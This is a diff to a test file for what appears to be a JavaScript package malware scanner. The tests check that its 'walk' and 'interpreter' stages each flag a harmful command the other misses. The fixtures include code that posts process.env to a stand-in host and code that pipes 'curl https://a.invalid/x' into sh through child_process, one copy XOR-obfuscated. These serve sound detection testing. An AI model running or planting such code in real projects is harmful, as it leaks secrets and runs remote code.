@@ -4,6 +4,7 @@ import { dirname, join } from 'node:path';
 import { afterAll, describe, expect, test } from 'vitest';
 import { defineRule, rules, scanDirectory, scanNodeModules, scanPackage, scanSource } from '../src/index.js';
 import { inspectTarget } from '../src/scan.js';
+import type { Stage } from '../src/types.js';
 import { zipOf } from './fixtures/read/zip.js';
 
 const THIEF = `require('https').request('https://collect.invalid').end(JSON.stringify(process.env));`;
@@ -146,6 +147,29 @@ test.each([
   const report = await scanPackage({ files });
   expect(report.findings.map(({ rule }) => rule)).toContain('runs-harmful-command');
   expect(report).toEqual(await scanPackage({ files }, { without: ['triage'] }));
+});
+
+const XOR = 7;
+const closed = [...'curl https://a.invalid/x | sh'].map(one => String.fromCharCode(one.charCodeAt(0) ^ XOR)).join('');
+
+/** What runs a line that only a stage works out: the walk does without the interpreter, not so the other way round. */
+test.each([
+  [
+    'walk',
+    [],
+    `const held = new Set([require('child_process')]); for (const api of held) { const go = api['exec'].bind(api, 'curl https://a.invalid/x | sh'); go(); }`,
+  ],
+  [
+    'interpreter',
+    ['walk'],
+    `const open = text => { let out = ''; for (let at = 0; at < text.length; at++) out += String.fromCharCode(text.charCodeAt(at) ^ ${XOR}); return out; };
+require('child_process').exec(open(${JSON.stringify(closed)}));`,
+  ],
+] as const)('without the %s, what only that finds is not found', async (stage, others, code) => {
+  const rulesOf = async (without: readonly Stage[]) =>
+    (await scanPackage({ files: { 'index.js': code } }, { without })).findings.map(({ rule }) => rule);
+  expect(await rulesOf(others)).toContain('runs-harmful-command');
+  expect(await rulesOf([...others, stage])).not.toContain('runs-harmful-command');
 });
 
 describe('hostile files cost only themselves', () => {
